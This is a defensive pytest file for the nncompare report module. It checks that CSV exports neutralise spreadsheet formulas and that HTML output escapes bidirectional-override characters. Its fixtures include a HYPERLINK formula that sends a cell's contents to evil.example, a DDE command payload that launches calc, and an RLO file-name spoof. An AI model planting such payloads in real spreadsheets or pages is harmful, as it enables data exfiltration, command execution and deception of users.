"""Report exports under attack (issue 6, item 16): spreadsheet formulas in results.csv and
bidirectional-override characters in report.html."""

from __future__ import annotations

import csv
import io
import warnings

import numpy as np
import pytest

pd = pytest.importorskip("pandas")
pytest.importorskip("matplotlib")

from nncompare.report import example_frame, load_results, render_html, write_report  # noqa: E402
from nncompare.report._files import neutralise_formula, results_csv  # noqa: E402

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
FORMULAS = (HYPERLINK, "@SUM(A1:A9)", "+cmd|'/C calc'!A0", "-2+3", "\tfoo", "\rbar")
RLO = "\u202e"
BIDI = ("\u202a", "\u202b", "\u202c", "\u202d", RLO, "\u2066", "\u2067", "\u2068", "\u2069")
MARKS = ("\u200e", "\u200f")


def hostile_frame(layers, names=("net A", "net B"), measures=("cka",)):
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        return example_frame(layers_a=layers, names=names, measures=measures, n_samples=40)


def read_cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


# --------------------------------------------------------------------------- CSV


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),  # a text cell, even if it looks like a number
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("conv1", "conv1"),
        (" =1", " =1"),
        ("", ""),
        (-0.5, -0.5),
        (-3, -3),
        (np.float32(-2.5), np.float32(-2.5)),
        (None, None),
        (True, True),
    ],
)
def test_owasp_rule_on_single_cells(cell, written):
    assert neutralise_formula(cell) == written
    assert type(neutralise_formula(cell)) is type(written)


def test_formula_cells_are_neutralised_numbers_stay_numbers(tmp_path):
    layers = (*FORMULAS, "fc")
    frame = hostile_frame(layers, names=("=cmd()", "@net"))
    frame["error"] = frame["error"].astype(object)
    frame.loc[0, "error"] = "-inf is not allowed"
    frame.loc[1, "value"] = -0.25  # negative numbers are not formulas
    frame["=extra"] = "+x"  # column names and user columns too
    with warnings.catch_warnings():
        warnings.filterwarnings("ignore", "Glyph", UserWarning)  # tab and CR in figure labels
        files = write_report(frame, tmp_path, title="=TITLE()")
    text = files.csv.read_bytes().decode("utf-8")
    cells = read_cells(text)
    header, body = cells[0], cells[1:]
    assert "'=extra" in header
    col = {name: i for i, name in enumerate(header)}
    for row in body:
        for name in ("model_a", "model_b", "layer_a", "layer_b", "'=extra", "error"):
            value = row[col[name]]
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (name, value)
    assert {row[col["layer_a"]] for row in body} == {"'" + s for s in FORMULAS} | {"fc"}
    assert body[0][col["model_a"]] == "'=cmd()" and body[0][col["model_b"]] == "'@net"
    assert body[0][col["error"]] == "'-inf is not allowed"

    back = pd.read_csv(files.csv, keep_default_na=False, na_values=[""])
    assert back["value"].dtype == np.float64
    np.testing.assert_array_equal(back["value"].to_numpy(), frame["value"].to_numpy())
    assert back.loc[1, "value"] == -0.25
    assert back["n_samples"].dtype.kind == "i"
    # results.json keeps every string exactly
    again = load_results(files.directory)
    assert list(again["layer_a"].unique()) == list(frame["layer_a"].unique())
    assert again.loc[0, "error"] == "-inf is not allowed"
    assert "=extra" in again.columns


def test_results_csv_of_a_plain_frame_is_unchanged():
    frame = hostile_frame(("conv1", "conv2", "fc"))
    assert results_csv(frame) == frame.to_csv(index=False, lineterminator="\r\n")


def test_line_breaks_inside_cells_keep_the_rows_intact():
    frame = hostile_frame(("a\rb", "c\nd", "e\r\nf"))
    text = results_csv(frame)
    cells = read_cells(text)
    assert len(cells) == len(frame) + 1
    assert {row[cells[0].index("layer_a")] for row in cells[1:]} == {"a\rb", "c\nd", "e\r\nf"}


# --------------------------------------------------------------------------- HTML


@pytest.mark.parametrize("image_format", ["png", "svg"])
def test_bidi_controls_in_names_are_shown_escaped(image_format):
    spoof = f"fc{RLO}lmth.exe"
    layers = (spoof, *(f"l{i}{c}" for i, c in enumerate(BIDI + MARKS)), "bell\x07")
    frame = hostile_frame(layers, names=(f"A{RLO}B", "B\u2066x\u2069"))
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # missing glyphs in the figures
        page = render_html(frame, title=f"run{RLO}1", image_format=image_format)
    for char in (*BIDI, *MARKS, "\x07"):
        assert char not in page, f"U+{ord(char):04X} reached the page"
    assert "fc\\u202elmth.exe" in page
    assert "<title>run\\u202e1</title>" in page
    assert "A\\u202eB" in page and "B\\u2066x\\u2069" in page
    assert "bell\\u0007" in page
    for i, c in enumerate(BIDI + MARKS):
        assert f"l{i}\\u{ord(c):04x}" in page
    # ordinary non-ASCII text is left alone
    assert "—" in page


def test_legitimate_rtl_text_is_kept():
    frame = hostile_frame(("שכבה1", "طبقة2", "conv"))
    page = render_html(frame)
    assert "שכבה1" in page and "طبقة2" in page
